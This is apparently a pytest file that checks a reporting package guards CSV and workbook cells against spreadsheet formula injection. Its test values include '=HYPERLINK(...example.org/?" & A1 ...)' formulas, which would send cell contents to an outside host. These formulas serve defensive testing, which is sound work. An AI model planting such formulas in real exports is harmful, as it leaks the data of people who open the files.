"""Cells of every CSV and workbook: words that a spreadsheet would take for a formula stay words."""

import csv
import re
import zipfile

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.figure import Figure

from learning_themes.reports.board import write_board_report
from learning_themes.reports.drawing import Chart, save_chart
from learning_themes.reports.workbook import write_workbook
from learning_themes.themes.coding import Coded
from learning_themes.themes.evaluation import read_coded
from learning_themes.themes.exchange import write_coded
from learning_themes.typed_cells import FORMULA_STARTS, guard_cell, unguard_cell
from tests.tables_fixture import make_change_tables, make_tables, small_codebook, write_tables

CODEBOOK = small_codebook(2)
HOSTILE = [f'{sign}HYPERLINK("https://example.org/?" & A1, "look")' for sign in FORMULA_STARTS]
_NUMBER = re.compile(r"[-+]?[\d.]+(e-?\d+)?%?")


def find_formulas(path) -> list[str]:
    """Return the cells of a CSV file or a workbook that a spreadsheet would evaluate."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)]
    with zipfile.ZipFile(path) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        return [found.decode() for sheet in sheets for found in re.findall(rb"<f[ >].{0,80}", sheet)]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """Return a run folder whose reviews, passages and files begin as formulas do."""
    folder, tables = tmp_path_factory.mktemp("run"), make_tables(CODEBOOK, reviews=12, comparison=2)
    columns = {"register": ("title", "file", "partnership", "author"), "passages": ("text", "heading")}
    for table, column in ((table, column) for table, names in columns.items() for column in names):
        rows = range(len(tables[table]))
        tables[table][column] = [f"{HOSTILE[place % len(HOSTILE)]}{place}" for place in rows]
    write_tables(tables | make_change_tables(tables, list(CODEBOOK.themes)), folder)
    write_board_report(folder, codebook=CODEBOOK, partnership="=1+1", dates="publication", as_of="2026-01-31")
    write_workbook(folder, CODEBOOK)
    return folder


def test_no_csv_and_no_workbook_of_a_run_holds_a_formula(hostile_run):
    paths = [path for path in hostile_run.rglob("*") if path.suffix in (".csv", ".xlsx")]
    assert {path.suffix for path in paths} == {".csv", ".xlsx"} and len(paths) > 4
    found = {path.name: cells for path in paths if (cells := find_formulas(path))}
    assert not found


def test_the_numbers_beside_a_chart_are_guarded_and_stay_numbers(tmp_path):
    numbers = pd.DataFrame({"=title": HOSTILE, "change": [-0.5] * len(HOSTILE)})
    path = save_chart(Chart(Figure(), "alt", numbers), tmp_path, "chart")[2]
    assert not find_formulas(path)
    back = pd.read_csv(path)
    assert list(back["change"]) == [-0.5] * len(HOSTILE) and list(back.columns)[0] == "'=title"


def test_coded_pairs_hold_no_formula_and_are_read_back_by_their_ids(tmp_path):
    one = Coded("neglect", "shortfall", 0.8, "rule", HOSTILE[0], 0.5)
    path = tmp_path / "coded.csv"
    write_coded(path, [(identity, [one]) for identity in HOSTILE])
    assert not find_formulas(path)
    assert set(read_coded(path)) == set(HOSTILE)


@settings(deadline=None)
@given(st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_a_guarded_cell_is_no_formula_and_comes_back(text):
    guarded = guard_cell(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) in (text, text.removeprefix("'"))
